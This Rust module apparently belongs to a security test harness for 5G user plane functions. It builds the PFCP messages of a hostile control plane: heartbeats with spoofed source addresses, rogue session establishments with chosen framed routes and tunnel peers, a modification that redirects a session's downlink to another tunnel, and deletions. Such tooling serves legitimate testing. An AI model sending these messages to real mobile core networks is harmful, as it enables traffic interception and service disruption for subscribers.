//! The PFCP messages that attackers send.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::LazyLock;

use causeway_pfcp::{
    ApplyAction, AssociationReleaseRequest, AssociationSetupRequest, CreateFar, CreatePdr,
    DestinationInterface, FTeid, ForwardingParameters, FramedRoute, HeartbeatRequest, Message,
    NetworkInstance as Network, NodeId, OuterHeaderCreation, OuterHeaderRemoval, Pdi, RecoveryTimeStamp,
    RemovedHeader, SessionDeletionRequest, SessionEstablishmentRequest, SessionModificationRequest,
    SourceInterface, SourceIpAddress, UeIpAddress, UpdateFar, UpdateForwardingParameters,
};
use causeway_types::{DualIp, FSeid, FarId, NtpSeconds, PdrId, Precedence, Seid, Teid};

/// The data network of the scene.
pub(crate) const DNN: &str = "internet";

static NETWORK: LazyLock<causeway_types::NetworkInstance> =
    LazyLock::new(|| causeway_types::NetworkInstance::new(DNN));

/// A session as a hostile SMF asks for it.
#[derive(Clone, Copy, Debug)]
pub(crate) struct SessionRequest<'a> {
    /// The Node ID in the request.
    pub(crate) node: Ipv4Addr,
    /// Whose F-SEID it is.
    pub(crate) cp: (Ipv4Addr, Seid),
    /// The UE's address.
    pub(crate) ue: Ipv4Addr,
    /// Framed routes of the downlink.
    pub(crate) routes: &'a [&'a str],
    /// Where the downlink goes.
    pub(crate) tunnel: (u32, Ipv4Addr),
}

pub(crate) fn octets(message: Message<'_>, seid: Option<Seid>, sequence: u32) -> Vec<u8> {
    let mut octets = Vec::new();
    // What cannot be encoded is sent as nothing.
    let _ = message.encode(seid, sequence & 0x00ff_ffff, &mut octets);
    octets
}

pub(crate) fn setup(node: NodeId<'_>, stamp: u32) -> Message<'_> {
    AssociationSetupRequest::new(node, RecoveryTimeStamp(NtpSeconds(stamp))).into()
}

pub(crate) fn release(node: Ipv4Addr) -> Message<'static> {
    AssociationReleaseRequest::new(NodeId::Ip(node.into())).into()
}

/// A heartbeat that names another address as its source.
pub(crate) fn heartbeat(stamp: u32, source: Option<Ipv4Addr>) -> Message<'static> {
    let request = HeartbeatRequest::new(RecoveryTimeStamp(NtpSeconds(stamp)));
    let source_ip_address =
        source.map(|address| SourceIpAddress { addr: DualIp::from(IpAddr::V4(address)), prefix_len: None });
    HeartbeatRequest { source_ip_address, ..request }.into()
}

pub(crate) fn establishment<'a>(wish: &SessionRequest<'a>) -> Message<'a> {
    let address = |destination| UeIpAddress { ipv4: Some(wish.ue), destination, ..UeIpAddress::default() };
    let uplink = Pdi {
        local_f_teid: Some(FTeid::Choose { v4: true, v6: false, choose_id: None }),
        ue_ip_addresses: [address(false)].into(),
        ..Pdi::new(SourceInterface::Access)
    };
    let uplink = CreatePdr {
        outer_header_removal: Some(OuterHeaderRemoval::new(RemovedHeader::GtpuIpv4)),
        far_id: Some(FarId(1)),
        ..CreatePdr::new(PdrId(1), Precedence(255), uplink)
    };
    let downlink = Pdi {
        network_instance: Some(Network::from(&*NETWORK)),
        ue_ip_addresses: [address(true)].into(),
        framed_routes: wish.routes.iter().map(|route| FramedRoute(route.as_bytes())).collect(),
        ..Pdi::new(SourceInterface::Core)
    };
    let downlink =
        CreatePdr { far_id: Some(FarId(2)), ..CreatePdr::new(PdrId(2), Precedence(255), downlink) };
    let to_core = ForwardingParameters {
        network_instance: Some(Network::from(&*NETWORK)),
        ..ForwardingParameters::new(DestinationInterface::Core)
    };
    let (teid, peer) = wish.tunnel;
    let to_access = ForwardingParameters {
        outer_header_creation: Some(OuterHeaderCreation::gtpu(teid, DualIp::from(IpAddr::V4(peer)))),
        ..ForwardingParameters::new(DestinationInterface::Access)
    };
    let far = |id, parameters| CreateFar {
        forwarding_parameters: Some(parameters),
        ..CreateFar::new(FarId(id), ApplyAction::FORW)
    };
    let cp = FSeid { seid: wish.cp.1, addr: DualIp::from(IpAddr::V4(wish.cp.0)) };
    let node = NodeId::Ip(wish.node.into());
    SessionEstablishmentRequest::new(node, cp, [uplink, downlink], [far(1, to_core), far(2, to_access)])
        .into()
}

/// Takes the downlink of a session to another tunnel.
pub(crate) fn redirect_downlink(teid: Teid, peer: Ipv4Addr) -> Message<'static> {
    let tunnel = OuterHeaderCreation::gtpu(teid.value(), DualIp::from(IpAddr::V4(peer)));
    let parameters = UpdateForwardingParameters {
        destination_interface: Some(DestinationInterface::Access),
        outer_header_creation: Some(tunnel),
        ..UpdateForwardingParameters::default()
    };
    let far = UpdateFar {
        apply_action: Some(ApplyAction::FORW),
        update_forwarding_parameters: Some(parameters),
        ..UpdateFar::new(FarId(2))
    };
    SessionModificationRequest { update_fars: [far].into(), ..SessionModificationRequest::default() }.into()
}

pub(crate) fn deletion() -> Message<'static> {
    SessionDeletionRequest::default().into()
}
